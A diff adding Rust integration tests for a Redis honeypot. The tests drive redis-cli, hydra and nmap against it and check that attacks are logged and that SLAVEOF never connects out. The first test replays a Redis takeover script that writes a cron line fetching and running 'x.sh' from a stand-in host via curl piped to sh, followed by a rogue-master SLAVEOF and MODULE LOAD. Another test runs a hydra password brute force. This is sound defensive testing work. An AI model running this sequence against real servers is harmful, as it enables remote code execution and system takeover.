@@ -1,0 +1,368 @@
+//! Redis honeypot against the real `redis-cli`, `hydra` and `nmap -sV`: commands and
+//! attacks recorded as events, SLAVEOF never connects anywhere, AUTH brute force recorded
+//! pair by pair, nmap names Redis and its version, and the caps hold against raw sockets.
+
+mod datasvc;
+
+use datasvc::*;
+use honeybee_proto::config::{LoginPolicy, RedisOptions, ServiceKind};
+use honeybee_proto::event::{AuthAttempt, EventKind};
+use std::time::Duration;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpStream};
+
+fn redis(require_auth: bool, login: LoginPolicy) -> ServiceKind {
+    ServiceKind::Redis(RedisOptions {
+        version: "7.0.15".into(),
+        require_auth,
+        login,
+    })
+}
+
+fn cli_args(addr: std::net::SocketAddr) -> Vec<String> {
+    vec![
+        "-h".into(),
+        addr.ip().to_string(),
+        "-p".into(),
+        addr.port().to_string(),
+    ]
+}
+
+async fn cli(
+    dir: &std::path::Path,
+    addr: std::net::SocketAddr,
+    args: &[&str],
+    stdin: Option<&str>,
+) -> Ran {
+    let mut all = cli_args(addr);
+    all.extend(args.iter().map(|s| s.to_string()));
+    let all: Vec<&str> = all.iter().map(String::as_str).collect();
+    run(dir, "redis-cli", &all, stdin).await
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn redis_cli_session_is_recorded_and_slaveof_never_connects() {
+    assert!(have("redis-cli"), "needs redis-tools");
+    let dir = tempfile::tempdir().unwrap();
+    let mut r = start(
+        dir.path(),
+        "redis",
+        "127.0.0.1:0".parse().unwrap(),
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+
+    let ping = cli(dir.path(), r.addr, &["PING"], None).await;
+    assert_eq!(ping.stdout.trim(), "PONG");
+    let info = cli(dir.path(), r.addr, &["INFO"], None).await;
+    assert!(
+        info.stdout.contains("redis_version:7.0.15"),
+        "{}",
+        info.stdout
+    );
+    assert!(info.stdout.contains(&format!("tcp_port:{}", r.addr.port())));
+    assert!(info.stdout.contains("# Keyspace"));
+
+    // A rogue master the test listens on: the honeypot must never connect to it.
+    let rogue = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let rogue_port = rogue.local_addr().unwrap().port();
+    // One connection, as an attacker's script does it: commands from stdin.
+    let script = format!(
+        "CONFIG SET dir /tmp\nCONFIG GET dir\nSET x \"\\n*/1 * * * * curl -fsSL http://203.0.113.5/x.sh | sh\\n\"\nCONFIG SET dbfilename root\nSAVE\nSLAVEOF 127.0.0.1 {rogue_port}\nINFO replication\nEVAL \"return 1\" 0\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\n"
+    );
+    let s = cli(dir.path(), r.addr, &[], Some(&script)).await;
+    let out: Vec<&str> = s.stdout.lines().collect();
+    assert_eq!(out[0], "OK", "{}", s.stdout);
+    assert_eq!(&out[1..3], ["dir", "/tmp"]);
+    assert!(s.stdout.contains("role:slave"), "{}", s.stdout);
+    assert!(
+        s.stdout.contains(&format!("master_port:{rogue_port}")),
+        "{}",
+        s.stdout
+    );
+    assert!(
+        s.stdout
+            .contains("ERR Error loading the extension. Please check the server logs."),
+        "{}",
+        s.stdout
+    );
+    assert!(
+        out.contains(&"1"),
+        "EVAL \"return 1\" 0 gives 1: {}",
+        s.stdout
+    );
+
+    r.wait_disconnects(3).await;
+    let cmds = r.commands();
+    for want in [
+        "PING".to_owned(),
+        "INFO".to_owned(),
+        "CONFIG SET dir /tmp".to_owned(),
+        "CONFIG GET dir".to_owned(),
+        "SET x \"\\n*/1 * * * * curl -fsSL http://203.0.113.5/x.sh | sh\\n\"".to_owned(),
+        "SAVE".to_owned(),
+        format!("SLAVEOF 127.0.0.1 {rogue_port}"),
+        "EVAL \"return 1\" 0".to_owned(),
+        "MODULE LOAD /tmp/exp.so".to_owned(),
+    ] {
+        assert!(cmds.contains(&want), "{want:?} not in {cmds:#?}");
+    }
+    let downloads: Vec<_> = r
+        .events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::Download { url, tool } => Some((url.clone(), tool.clone())),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        downloads,
+        [(
+            format!("redis://127.0.0.1:{rogue_port}"),
+            "replicaof".to_owned()
+        )]
+    );
+    // The would-be crontab written by SAVE is a capture of that session.
+    let capture = r.events.iter().find_map(|e| match &e.kind {
+        EventKind::Capture {
+            kind, name, size, ..
+        } => Some((kind.clone(), name.clone(), *size)),
+        _ => None,
+    });
+    let (kind, name, size) = capture.expect("SAVE after CONFIG SET dir is captured");
+    assert_eq!(
+        (kind.as_str(), name.as_deref()),
+        ("upload", Some("/tmp/root"))
+    );
+    let spooled = std::fs::read_dir(dir.path().join("captures"))
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .find(|e| e.path().extension().is_some_and(|x| x == "bin"))
+        .expect("capture file spooled");
+    let content = std::fs::read(spooled.path()).unwrap();
+    assert_eq!(content.len() as u64, size);
+    assert!(String::from_utf8_lossy(&content).contains("curl -fsSL http://203.0.113.5/x.sh | sh"));
+
+    // Nothing ever connected to the rogue master (given time it would have, if it tried).
+    let accepted = tokio::time::timeout(Duration::from_secs(3), rogue.accept()).await;
+    assert!(
+        accepted.is_err(),
+        "the honeypot connected out: {accepted:?}"
+    );
+    r.mgr.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn requirepass_and_auth_like_redis() {
+    assert!(have("redis-cli"), "needs redis-tools");
+    let dir = tempfile::tempdir().unwrap();
+    let policy = LoginPolicy::Credentials(vec![("default".into(), "s3cret".into())]);
+    let mut r = start(
+        dir.path(),
+        "redis",
+        "127.0.0.1:0".parse().unwrap(),
+        redis(true, policy),
+    )
+    .await;
+    let denied = cli(dir.path(), r.addr, &["CONFIG", "GET", "dir"], None).await;
+    assert!(
+        denied.stdout.contains("NOAUTH Authentication required."),
+        "{}",
+        denied.stdout
+    );
+    let wrong = cli(
+        dir.path(),
+        r.addr,
+        &["--no-auth-warning", "-a", "guess", "PING"],
+        None,
+    )
+    .await;
+    assert!(
+        format!("{}{}", wrong.stdout, wrong.stderr)
+            .contains("WRONGPASS invalid username-password pair or user is disabled."),
+        "{} {}",
+        wrong.stdout,
+        wrong.stderr
+    );
+    let right = cli(
+        dir.path(),
+        r.addr,
+        &["--no-auth-warning", "-a", "s3cret", "PING"],
+        None,
+    )
+    .await;
+    assert_eq!(right.stdout.trim(), "PONG");
+    r.wait_disconnects(3).await;
+    let attempts: Vec<(String, Option<String>, bool)> = r
+        .events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::AuthAttempt(AuthAttempt {
+                username,
+                password,
+                success,
+                ..
+            }) => Some((username.clone(), password.clone(), *success)),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        attempts,
+        [
+            ("default".into(), Some("guess".into()), false),
+            ("default".into(), Some("s3cret".into()), true)
+        ]
+    );
+    r.mgr.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hydra_redis_every_password_recorded() {
+    assert!(
+        have("hydra") && have("redis-cli"),
+        "needs hydra and redis-tools"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let mut r = start(
+        dir.path(),
+        "redis",
+        "127.0.0.1:0".parse().unwrap(),
+        redis(true, LoginPolicy::Never),
+    )
+    .await;
+    // Redis has no user names: 400 passwords stand for the 20 × 20 grid.
+    let passwords: Vec<String> = (0..20)
+        .flat_map(|u| (0..20).map(move |p| format!("user{u}-pass{p}")))
+        .collect();
+    std::fs::write(dir.path().join("pw.txt"), passwords.join("\n") + "\n").unwrap();
+    let h = run(
+        dir.path(),
+        "hydra",
+        &[
+            "-I",
+            "-t",
+            "4",
+            "-P",
+            "pw.txt",
+            "-o",
+            "found.txt",
+            "-s",
+            &r.addr.port().to_string(),
+            "127.0.0.1",
+            "redis",
+        ],
+        None,
+    )
+    .await;
+    assert!(h.ok, "hydra failed: {}\n{}", h.stdout, h.stderr);
+    assert!(h.stdout.contains("0 valid password"), "{}", h.stdout);
+    r.wait_for("400 auth attempts", |ev| {
+        ev.iter()
+            .filter(|e| e.kind.name() == "auth_attempt")
+            .count()
+            >= 400
+    })
+    .await;
+    let mut got: Vec<String> = r
+        .events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::AuthAttempt(a) => {
+                assert_eq!((a.username.as_str(), a.success), ("default", false));
+                a.password.clone()
+            }
+            _ => None,
+        })
+        .collect();
+    got.sort();
+    let mut want = passwords.clone();
+    want.sort();
+    assert_eq!(got, want, "every password exactly once");
+    // Still serving.
+    let ping = cli(dir.path(), r.addr, &["PING"], None).await;
+    assert!(ping.stdout.contains("NOAUTH"), "{}", ping.stdout);
+    r.mgr.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nmap_names_redis_and_its_version() {
+    assert!(have("nmap"), "needs nmap");
+    let dir = tempfile::tempdir().unwrap();
+    // On its own port nmap asks INFO and reads the version.
+    let mut r = start(
+        dir.path(),
+        "redis",
+        free_loopback(6379),
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    let (product, version) = nmap_service(dir.path(), r.addr).await;
+    assert_eq!(product.as_deref(), Some("Redis key-value store"));
+    assert_eq!(version.as_deref(), Some("7.0.15"));
+    r.mgr.shutdown().await;
+    // On any other port nmap's HTTP probe gets Redis's own error, and still names it.
+    let mut r = start(
+        dir.path(),
+        "redis",
+        "127.0.0.1:0".parse().unwrap(),
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    let (product, _) = nmap_service(dir.path(), r.addr).await;
+    assert_eq!(product.as_deref(), Some("Redis key-value store"));
+    r.mgr.shutdown().await;
+}
+
+async fn exchange(addr: std::net::SocketAddr, send: &[u8]) -> Vec<u8> {
+    let mut c = TcpStream::connect(addr).await.unwrap();
+    c.write_all(send).await.unwrap();
+    let mut out = Vec::new();
+    tokio::time::timeout(WAIT, c.read_to_end(&mut out))
+        .await
+        .expect("server closes")
+        .unwrap();
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn protocol_errors_and_caps_over_raw_sockets() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut r = start(
+        dir.path(),
+        "redis",
+        "127.0.0.1:0".parse().unwrap(),
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    // Pipelined inline and multibulk requests, binary-safe, then QUIT.
+    let out = exchange(
+        r.addr,
+        b"PING\r\n*2\r\n$4\r\nECHO\r\n$3\r\na\0b\r\nQUIT\r\n",
+    )
+    .await;
+    assert_eq!(out, b"+PONG\r\n$3\r\na\0b\r\n+OK\r\n");
+    // A bulk announced over the cap is refused before its bytes are awaited.
+    let out = exchange(r.addr, b"*2\r\n$3\r\nSET\r\n$999999999\r\n").await;
+    assert_eq!(out, b"-ERR Protocol error: invalid bulk length\r\n");
+    // Many bulks each under the cap but together over it: dropped, and that is an event.
+    let mut big = b"*4\r\n".to_vec();
+    for _ in 0..4 {
+        big.extend_from_slice(format!("${}\r\n", 60 * 1024).as_bytes());
+        big.extend_from_slice(&vec![b'a'; 60 * 1024]);
+        big.extend_from_slice(b"\r\n");
+    }
+    let mut c = TcpStream::connect(r.addr).await.unwrap();
+    let _ = c.write_all(&big).await;
+    let mut sink = Vec::new();
+    let _ = tokio::time::timeout(WAIT, c.read_to_end(&mut sink)).await;
+    // HTTP to Redis: dropped without an answer, as Redis does.
+    let out = exchange(r.addr, b"POST / HTTP/1.1\r\nHost: x\r\n\r\n").await;
+    assert!(out.is_empty());
+    r.wait_disconnects(4).await;
+    assert!(r.events.iter().any(
+        |e| matches!(&e.kind, EventKind::LimitReached { limit, .. } if limit == "redis_request")
+    ));
+    let cmds = r.commands();
+    assert!(cmds.contains(&"ECHO \"a\\x00b\"".to_owned()), "{cmds:?}");
+    r.mgr.shutdown().await;
+}
